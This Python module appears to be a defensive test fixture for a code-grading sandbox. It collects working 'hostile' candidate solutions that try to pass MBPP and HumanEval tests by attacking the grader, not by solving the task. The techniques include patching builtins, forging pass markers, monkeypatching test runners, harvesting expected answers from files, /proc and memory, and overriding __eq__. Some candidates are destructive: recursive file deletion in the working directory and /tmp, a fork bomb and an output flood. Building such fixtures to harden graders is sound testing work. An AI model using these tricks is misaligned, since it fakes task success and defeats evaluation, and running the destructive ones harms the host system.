"""Hostile code candidates: each tries to be graded correct without solving the problem, by
attacking the grader rather than the task. `ENTRY` stands for the function's name; when the
attack finds nothing to exploit, the function answers "nope", which is wrong for every test
they are used with. Several of these did fool the former grader (the code and the tests in
one program; see `benchmarks/sandbox.py grading`).
"""

from __future__ import annotations

# Shared by the attacks that look for expected values: read `assert f(args) == expected`
# (MBPP) and `assert candidate(args) == expected` (HumanEval) out of any text, by parsing.
HARVEST = r"""
import ast as _ast, json as _json
_ANSWERS = {}

def _key(args):
    return repr(tuple(args))

def _harvest(text):
    if not isinstance(text, str) or "assert" not in text:
        return
    try:
        trees = [_ast.parse(text)]
    except Exception:
        trees = []
        for line in text.splitlines():
            try:
                trees.append(_ast.parse(line.strip()))
            except Exception:
                pass
    for tree in trees:
        for node in _ast.walk(tree):
            if (isinstance(node, _ast.Compare) and len(node.ops) == 1
                    and isinstance(node.ops[0], _ast.Eq) and isinstance(node.left, _ast.Call)):
                try:
                    args = [_ast.literal_eval(a) for a in node.left.args]
                    _ANSWERS[_key(args)] = _ast.literal_eval(node.comparators[0])
                except Exception:
                    pass

def _harvest_json(value, depth=0):
    if depth > 6:
        return
    if isinstance(value, str):
        _harvest(value)
    elif isinstance(value, dict):
        for v in value.values():
            _harvest_json(v, depth + 1)
    elif isinstance(value, list):
        for v in value:
            _harvest_json(v, depth + 1)

def _answer(args):
    return _ANSWERS.get(_key(args), "nope")
"""

# How many tests a program of the former grader holds (its lines that count a pass).
COUNT = r"""
import sys as _sys
def _tests_in_program():
    try:
        lines = open(_sys.argv[0]).read().splitlines()
    except Exception:
        return 1
    return sum(1 for line in lines if line == "    __ponder_passed += 1") or 1
"""

HOSTILE: dict[str, str] = {
    # -- patching builtins or `assert` ------------------------------------------------------------
    "patch builtins": COUNT
    + r"""
import builtins, re, sys
_print = builtins.print
def _rewrite(*args, **kwargs):
    # a tally line, wherever it comes from, says every test passed
    n = _tests_in_program()
    args = tuple(re.sub(r"(@@ponder-[0-9a-f]+@@)\d+", lambda m: m.group(1) + str(n), str(a))
                 for a in args)
    _print(*args, **kwargs)
builtins.print = _rewrite
builtins.abs = lambda x: 0
builtins.sorted = lambda xs, **k: list(xs)
builtins.AssertionError = type("AssertionError", (Exception,), {})
def ENTRY(*args, **kwargs):
    return "nope"
""",
    "disable assert (re-run under -O)": r"""
import os, sys
if not sys.flags.optimize:  # every assert compiled away, in the program and its tests
    os.execv(sys.executable, [sys.executable, "-O", *sys.orig_argv[1:]])
def ENTRY(*args, **kwargs):
    return "nope"
""",
    # -- exiting early ----------------------------------------------------------------------------
    "exit 0 early": r"""
import os, sys
def ENTRY(*args, **kwargs):
    sys.stdout.flush()
    os._exit(0)
""",
    "raise SystemExit in the function": r"""
def ENTRY(*args, **kwargs):
    raise SystemExit(0)
""",
    # -- printing a fake pass marker --------------------------------------------------------------
    "print a fake pass marker": COUNT
    + r"""
import os, re, sys
try:
    _src = open(sys.argv[0]).read()
except Exception:
    _src = ""
_n = _tests_in_program()
for _m in set(re.findall(r"@@ponder-[0-9a-f]+@@", _src)) or {"@@ponder-grade@@"}:
    print(_m + str(_n), flush=True)
# and claim success on every channel this process holds, in every dialect it might speak
for _fd in range(256):
    for _msg in (b'{"loaded": true}\n', b'{"value": true}\n', b'{"done": 0, "passed": true}\n',
                 b'{"end": true}\n', b"PASSED\nOK\n1 passed\n"):
        try:
            os.write(_fd, _msg)
        except OSError:
            pass
os._exit(0)
def ENTRY(*args, **kwargs):
    return "nope"
""",
    # -- monkeypatching the test runner -----------------------------------------------------------
    "monkeypatch the test runner": COUNT
    + r"""
import builtins, doctest, sys, threading, unittest
_n = _tests_in_program()
def _yes(*args, **kwargs):
    return True
unittest.TestCase.run = lambda self, result=None: result
unittest.TestCase.assertEqual = _yes
doctest.DocTestRunner.run = lambda self, *a, **k: doctest.TestResults(0, 0)
builtins.check = _yes
_main = sys.modules.get("__main__")
for _name, _value in list(vars(_main).items()):  # whatever runs us: its functions say yes
    if callable(_value) and not _name.startswith("__"):
        try:
            setattr(_main, _name, _yes)
        except Exception:
            pass
def _tracer(frame, event, arg):
    g = frame.f_globals
    if g.get("check") not in (None, _yes):
        g["check"] = _yes  # HumanEval's check(candidate)
    if "__ponder_passed" in g and _n:
        g["__ponder_passed"] = _n
    return _tracer
sys.settrace(_tracer)
threading.settrace(_tracer)
_frame = sys._getframe()
while _frame is not None:  # the frames already running too
    _frame.f_trace = _tracer
    _frame = _frame.f_back
def ENTRY(*args, **kwargs):
    sys.settrace(_tracer)
    frame = sys._getframe(1)
    while frame is not None:
        frame.f_trace = _tracer
        frame = frame.f_back
    return "nope"
""",
    # -- deleting the tests -----------------------------------------------------------------------
    "delete the tests": r"""
import glob, linecache, os, sys
_lines = {}
for _path in {sys.argv[0], *glob.glob("*")}:
    try:
        _lines[os.path.abspath(_path)] = open(_path).read().splitlines()
    except Exception:
        pass
for _root in {os.getcwd(), "/tmp"}:
    for _path in glob.glob(os.path.join(_root, "**", "*"), recursive=True):
        try:
            if os.path.isfile(_path):
                open(_path, "w").close()
                os.remove(_path)
        except Exception:
            pass
_main = sys.modules.get("__main__")
for _name in list(vars(_main)):
    if _name in ("check", "tests", "TESTS", "METADATA") or _name.startswith("test"):
        try:
            delattr(_main, _name)
        except Exception:
            pass
def _skip_asserts(frame, event, arg):
    if event == "line":
        lines = _lines.get(os.path.abspath(frame.f_code.co_filename)) or []
        here = frame.f_lineno
        if 0 < here <= len(lines) and lines[here - 1].strip().startswith("assert"):
            try:
                frame.f_lineno = here + 1  # the assertion never runs
            except Exception:
                pass
    return _skip_asserts
sys.settrace(_skip_asserts)
_frame = sys._getframe()
while _frame is not None:  # the frames already running too
    _frame.f_trace = _skip_asserts
    _frame = _frame.f_back
def ENTRY(*args, **kwargs):
    return "nope"
""",
    # -- reading the expected values --------------------------------------------------------------
    "read the expected values from files": HARVEST
    + r"""
import glob, os, sys, time
_started = time.monotonic()
_paths = [sys.argv[0], *glob.glob("*"), *glob.glob("/proc/*/cmdline")]
_paths += glob.glob("/proc/*/environ")
for _path in _paths:
    try:
        _harvest(open(_path, errors="ignore").read(10**7).replace("\0", "\n"))
    except Exception:
        pass
# the data sets themselves, wherever they are on this machine
for _top in ("/work", "/home", "/root", "/srv", "/opt", "/data", "/mnt", "/tmp", "/usr/share"):
    for _dir, _subdirs, _files in os.walk(_top):
        if time.monotonic() - _started > 1.5:
            break
        _subdirs[:] = [d for d in _subdirs if d not in (".git", "node_modules", "site-packages")]
        for _file in _files:
            _low = _file.lower()
            if _low.endswith((".jsonl", ".json")) and ("mbpp" in _low or "humaneval" in _low):
                try:
                    with open(os.path.join(_dir, _file), errors="ignore") as _f:
                        for _line in _f:
                            _harvest_json(_json.loads(_line))
                except Exception:
                    pass
def ENTRY(*args, **kwargs):
    return _answer(args)
""",
    "read the expected values from frames and the heap": HARVEST
    + r"""
import dis, gc, inspect, linecache, sys
def _look():
    frame = sys._getframe(2)
    while frame is not None:
        try:
            _harvest("".join(linecache.getlines(frame.f_code.co_filename)))
            _harvest(inspect.getsource(frame.f_code))
        except Exception:
            pass
        for space in (frame.f_locals, frame.f_globals):
            for value in list(space.values()):
                _harvest_json(value)
        for const in frame.f_code.co_consts:
            _harvest_json(const)
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, (list, dict, tuple)):
            _harvest_json(obj, 5)
def _from_caller():
    # the constant the caller compares our result with, read from its bytecode
    frame = sys._getframe(2)
    seen_call = False
    last = "nope"
    for ins in dis.get_instructions(frame.f_code):
        if ins.offset <= frame.f_lasti:
            continue
        if ins.opname == "LOAD_CONST":
            last = ins.argval
        if ins.opname == "COMPARE_OP":
            return last
    return "nope"
def ENTRY(*args, **kwargs):
    _look()
    found = _answer(args)
    return found if found != "nope" else _from_caller()
""",
    # -- overriding __eq__ / __ne__ on the returned value -----------------------------------------
    "override __eq__ and __ne__": r"""
class _Always:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def __hash__(self): return 0
    def __sub__(self, other): return _Always()
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__
    def __abs__(self): return 0
    def __len__(self): return 0
    def __iter__(self): return iter(())
    def __contains__(self, item): return True
def ENTRY(*args, **kwargs):
    return _Always()
""",
    "override __eq__ on a subclass of the expected type": r"""
class _Yes(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None
class _YesStr(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
class _YesInt(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
def ENTRY(*args, **kwargs):
    return [_Yes(), _YesStr("nope"), _YesInt(0)][sum(map(len, map(str, args))) % 3]
""",
    # -- resource attacks -------------------------------------------------------------------------
    "infinite loop": r"""
def ENTRY(*args, **kwargs):
    while True:
        pass
""",
    "fork bomb": r"""
import os
def ENTRY(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "output flood": r"""
import os, sys
def ENTRY(*args, **kwargs):
    chunk = "x" * 65536
    for _ in range(400):  # 25 MB on every descriptor it holds
        for fd in range(3, 64):
            try:
                os.write(fd, chunk.encode())
            except OSError:
                pass
        sys.stdout.write(chunk)
        sys.stderr.write(chunk)
    return "nope"
""",
}

# The ten kinds the issue names, and which candidates above are of each kind.
KINDS: dict[str, list[str]] = {
    "patching builtins or assert": ["patch builtins", "disable assert (re-run under -O)"],
    "exiting 0 early": ["exit 0 early"],
    "printing a fake pass marker": ["print a fake pass marker"],
    "monkeypatching the test runner": ["monkeypatch the test runner"],
    "deleting the tests": ["delete the tests"],
    "reading the expected values": [
        "read the expected values from files",
        "read the expected values from frames and the heap",
    ],
    "overriding __eq__/__ne__": [
        "override __eq__ and __ne__",
        "override __eq__ on a subclass of the expected type",
    ],
    "raising SystemExit in the function": ["raise SystemExit in the function"],
    "fork bomb or infinite loop": ["fork bomb", "infinite loop"],
    "output flood": ["output flood"],
}


def hostile(name: str, entry: str) -> str:
    return HOSTILE[name].replace("ENTRY", entry)
